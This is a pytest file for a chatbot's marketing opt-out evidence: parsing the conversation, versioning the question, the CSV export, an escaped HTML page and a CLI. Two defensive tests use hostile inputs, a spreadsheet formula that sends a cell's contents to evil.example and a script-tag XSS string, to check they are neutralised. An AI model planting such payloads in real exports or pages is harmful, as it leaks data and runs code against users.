"""Evidence of consent changes (issue 13, section 2): the pure parts.

What the conversation says was asked and answered (actions/evidence.py), the version of a
question's text, the columns and the JSON shape (bot/store/evidence.py), the export's cells and
the printable page; then the store and the command line on a real database.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone

import pytest
from rasa_sdk import Tracker
from rasa_sdk.executor import CollectingDispatcher

from actions.evidence import opt_out_evidence, words_of
from actions.language import detected_language
from actions.opt_out import ActionOptOut
from bot.cli import main
from bot.cli.opt_out_export import EXPORT_HEADER, evidence_cells
from bot.contract import ActionName, Response
from bot.dashboard.evidence import evidence_document, evidence_summary
from bot.db import transaction
from bot.spreadsheet import SafeCsvWriter
from bot.store.customers import profile, remember_language, touch_customer
from bot.store.evidence import ConsentEvidence, Question, evidence_columns, evidence_record, version_of
from bot.store.tags import record_opt_out

ASKED_AT, ANSWERED_AT = 1783000000, 1783000060
QUESTION_TEXT = "¿Quieres dejar de recibir mensajes de marketing de Acme Store?"
BUTTONS = [{"title": "Sí, pararlos", "payload": "/affirm"}, {"title": "No, seguir", "payload": "/deny"}]


def user(text: str, words: str | None, message_id: str, at: int, **metadata: object) -> dict:
    meta = {"message_id": message_id, "timestamp": at, **metadata}
    if words is not None:
        meta["words"] = words
    return {"event": "user", "text": text, "timestamp": at + 0.5, "metadata": meta}


def action(name: str) -> dict:
    return {"event": "action", "name": name}


def question(text: str = QUESTION_TEXT, buttons: list[dict] = BUTTONS) -> dict:
    return {
        "event": "bot",
        "text": text,
        "data": {"buttons": buttons},
        "metadata": {"utter_action": Response.CONFIRMATION_QUESTION},
    }


REQUEST = user(
    "quiero dejar de recibir promociones", "  quiero dejar de recibir promociones", "wamid.req", ASKED_AT
)


def flow(answer: dict, *, asked: list[dict] | None = None) -> list[dict]:
    return [
        action("action_listen"),
        REQUEST,
        action(ActionName.CHECK_OPT_OUT),
        action("opt_out_form"),
        *(asked if asked is not None else [question()]),
        action("action_listen"),
        answer,
    ]


# --- what the conversation says ------------------------------------------------------------


def test_a_button_answer_names_the_request_the_question_shown_and_the_button():
    answer = user("/affirm", "Sí, pararlos", "wamid.ans", ANSWERED_AT, context_id="wamid.q")
    found = opt_out_evidence(flow(answer), answer, "es")
    assert found.language == "es"
    assert found.words == "  quiero dejar de recibir promociones"  # as sent, before any cleaning
    assert found.requested_at == datetime.fromtimestamp(ASKED_AT, timezone.utc)
    assert found.request_message_id == "wamid.req"
    assert found.question == Question(
        Response.CONFIRMATION_QUESTION,
        QUESTION_TEXT,
        ("Sí, pararlos", "No, seguir"),
        ("/affirm", "/deny"),
        "wamid.q",
    )
    assert found.answer == "Sí, pararlos"


def test_a_payload_without_the_channels_words_is_named_by_its_buttons_title():
    answer = user("/affirm", None, "wamid.ans", ANSWERED_AT)
    assert opt_out_evidence(flow(answer), answer, "es").answer == "Sí, pararlos"
    assert words_of({"text": "/deny"}, None) == "/deny"  # no question to name it: the payload itself
    assert words_of({"text": None}, None) is None


def test_the_last_question_before_the_answer_is_the_one_shown():
    reasked = question("Responde sí o no: ¿dejar de recibir marketing?")
    answer = user("sí", "sí", "wamid.ans", ANSWERED_AT)
    found = opt_out_evidence(
        flow(answer, asked=[question(), user("qué?", "qué?", "wamid.x", ASKED_AT + 5), reasked]), answer, "es"
    )
    assert found.question.text == "Responde sí o no: ¿dejar de recibir marketing?"
    assert found.answer == "sí"
    assert found.words == "  quiero dejar de recibir promociones"  # the request, not the "qué?"


def test_an_immediate_opt_out_has_the_request_and_no_question():
    stop = user("BAJA", "BAJA", "wamid.stop", ASKED_AT)
    # An earlier flow's question (before this request's check) was not shown for this one.
    events = [
        *flow(user("/deny", "No, seguir", "wamid.old", ASKED_AT - 99)),
        stop,
        action(ActionName.CHECK_OPT_OUT),
        action("opt_out_form"),
    ]
    found = opt_out_evidence(events, stop, "es")
    assert (found.words, found.request_message_id, found.question, found.answer) == (
        "BAJA",
        "wamid.stop",
        None,
        None,
    )


def test_a_question_version_changes_with_any_change_to_text_or_buttons():
    version = version_of(QUESTION_TEXT, ("Sí", "No"), ("/affirm", "/deny"))
    assert version == version_of(QUESTION_TEXT, ("Sí", "No"), ("/affirm", "/deny"))
    assert len(version) == 12 and int(version, 16) >= 0
    assert version != version_of(QUESTION_TEXT + " ", ("Sí", "No"), ("/affirm", "/deny"))
    assert version != version_of(QUESTION_TEXT, ("No", "Sí"), ("/affirm", "/deny"))
    assert version != version_of(QUESTION_TEXT, ("Sí", "No"), ("/deny", "/affirm"))


def test_columns_and_record_round_trip():
    evidence = ConsentEvidence(
        "es",
        "BAJA",
        datetime.fromtimestamp(ASKED_AT, timezone.utc),
        "wamid.req",
        Question(
            Response.CONFIRMATION_QUESTION, QUESTION_TEXT, ("Sí", "No"), ("/affirm", "/deny"), "wamid.q"
        ),
        "Sí",
    )
    row = {
        **evidence_columns(evidence),
        "message_id": "wamid.ans",
        "occurred_at": datetime.fromtimestamp(ANSWERED_AT, timezone.utc),
    }
    assert evidence_record(row) == {
        "language": "es",
        "request": {"words": "BAJA", "at": "2026-07-02T13:46:40+00:00", "message_id": "wamid.req"},
        "question": {
            "response": Response.CONFIRMATION_QUESTION,
            "version": version_of(QUESTION_TEXT, ("Sí", "No"), ("/affirm", "/deny")),
            "text": QUESTION_TEXT,
            "buttons": ["Sí", "No"],
            "message_id": "wamid.q",
        },
        "answer": {"words": "Sí", "at": "2026-07-02T13:47:40+00:00", "message_id": "wamid.ans"},
    }
    assert evidence_columns(None) == dict.fromkeys(evidence_columns(evidence))


def test_a_decided_language_is_the_detected_one_only_when_sure():
    allowed = ["en", "es", "pt", "fr", "de", "id", "hi"]
    assert detected_language({"text": "quiero darme de baja"}, allowed) == "es"
    assert detected_language({"text": "👍"}, allowed) is None
    assert detected_language({"text": "/affirm"}, allowed) is None
    assert detected_language({"text": "quiero darme de baja"}, ["en"]) is None


# --- export and page: the customer's words are data ------------------------------------------


def test_exported_words_never_run_as_a_spreadsheet_formula():
    record = evidence_record(
        {
            **evidence_columns(
                ConsentEvidence("en", '=HYPERLINK("http://evil.example?"&A1,"x")', answer="@SUM(1)")
            ),
            "occurred_at": datetime.fromtimestamp(ANSWERED_AT, timezone.utc),
        }
    )
    out = io.StringIO()
    SafeCsvWriter(out).writerow(evidence_cells(record))
    [cells] = list(csv.reader(io.StringIO(out.getvalue())))
    assert cells[1] == '\'=HYPERLINK("http://evil.example?"&A1,"x")'
    assert len(evidence_cells(record)) == len(EXPORT_HEADER) - EXPORT_HEADER.index("language")


def test_the_printable_page_escapes_what_the_customer_wrote():
    evidence = evidence_record(
        {
            **evidence_columns(ConsentEvidence("en", "<script>alert(1)</script>")),
            "occurred_at": datetime.fromtimestamp(ANSWERED_AT, timezone.utc),
        }
    )
    assert "<script>" not in evidence_summary(evidence) and "&lt;script&gt;" in evidence_summary(evidence)
    record = {
        "generated_at": "2026-12-01T10:00:00+00:00",
        "customer": {"key": "c_x", "language": "en", "identities": [], "merged": []},
        "marketing_allowed": False,
        "suppressed": False,
        "opt_out": None,
        "consent_events": [
            {
                "occurred_at": "2026-12-01T10:00:00+00:00",
                "kind": "opt_out",
                "source": "text",
                "evidence": evidence,
            }
        ],
        "opt_out_requests": [],
    }
    page = evidence_document(record)
    assert page.startswith("<!doctype html>") and "&lt;script&gt;" in page and "<script>" not in page


# --- the store and the command line ----------------------------------------------------------

AT = datetime(2026, 7, 2, 13, 48, tzinfo=timezone.utc)


def test_evidence_prints_the_complete_record_and_writes_a_private_page(db_url, tmp_path, capsys):
    evidence = ConsentEvidence(
        "es",
        "quiero dejar de recibir promociones",
        datetime.fromtimestamp(ASKED_AT, timezone.utc),
        "wamid.req",
        Question(
            Response.CONFIRMATION_QUESTION,
            QUESTION_TEXT,
            ("Sí, pararlos", "No, seguir"),
            ("/affirm", "/deny"),
            "wamid.q",
        ),
        "Sí, pararlos",
    )
    with transaction() as conn:
        touch_customer(conn, "34600000001", "Lola", AT)
        assert remember_language(conn, "34600000001", "es")
        assert remember_language(conn, "34600000001", "es") is False  # unchanged: nothing written
        assert remember_language(conn, "34699999999", "es") is None  # unknown: left alone
        record_opt_out(conn, "34600000001", "button", "wamid.ans", AT, evidence=evidence)
        assert profile(conn, "34600000001")["language"] == "es"
    page = tmp_path / "record.html"
    assert main(["customers", "evidence", "+34 600 000 001", "--html", str(page)]) == 0
    record = json.loads(capsys.readouterr().out)
    [event] = record["consent_events"]
    assert event["evidence"]["request"]["words"] == "quiero dejar de recibir promociones"
    assert event["evidence"]["question"]["text"] == QUESTION_TEXT
    assert event["evidence"]["answer"] == {
        "words": "Sí, pararlos",
        "at": AT.isoformat(),
        "message_id": "wamid.ans",
    }
    assert record["opt_out"]["source"] == "button" and not record["marketing_allowed"]
    assert record["customer"]["language"] == "es" and "name" not in record["customer"]
    assert "Sí, pararlos" in page.read_text() and page.stat().st_mode & 0o077 == 0


@pytest.mark.parametrize(
    ("raw", "message"), [("16505550000", "no customer with number"), ("nonsense", "invalid ID")]
)
def test_evidence_for_nobody_says_so(db_url, capsys, raw, message):
    assert main(["customers", "evidence", raw]) == 1
    error = capsys.readouterr().err
    assert message in error and "16505550000" not in error  # echoed masked


# --- the action: a "yes" and a "no" each leave their evidence ----------------------------------


async def run_opt_out(wa_id: str, answer: dict, decision: str) -> list:
    events = flow(answer)
    latest = {
        "text": answer["text"],
        "intent": {"name": "affirm" if decision == "confirmed" else "deny", "confidence": 1.0},
        "metadata": answer["metadata"],
    }
    slots = {"opt_out_decision": decision, "language": "es"}
    tracker = Tracker(wa_id, slots, latest, events, False, None, {}, "opt_out_form")
    return await ActionOptOut().run(CollectingDispatcher(), tracker, {})


@pytest.mark.parametrize(("decision", "kind"), [("confirmed", "opt_out"), ("kept", "kept_marketing")])
async def test_the_answer_to_the_question_is_kept_with_its_evidence(sqlite_url, decision, kind):
    with transaction() as conn:
        touch_customer(conn, "34600000002", "Pepe", AT)
        key = profile(conn, "34600000002")["key"]
    payload, title = ("/affirm", "Sí, pararlos") if decision == "confirmed" else ("/deny", "No, seguir")
    await run_opt_out(key, user(payload, title, "wamid.ans", ANSWERED_AT, context_id="wamid.q"), decision)
    with transaction() as conn:
        [event] = profile(conn, "34600000002")["consent_history"]
    assert (event["kind"], event["message_id"]) == (kind, "wamid.ans")
    assert event["evidence"]["request"]["words"] == "  quiero dejar de recibir promociones"
    assert event["evidence"]["question"]["message_id"] == "wamid.q"
    assert event["evidence"]["answer"]["words"] == title and event["evidence"]["language"] == "es"
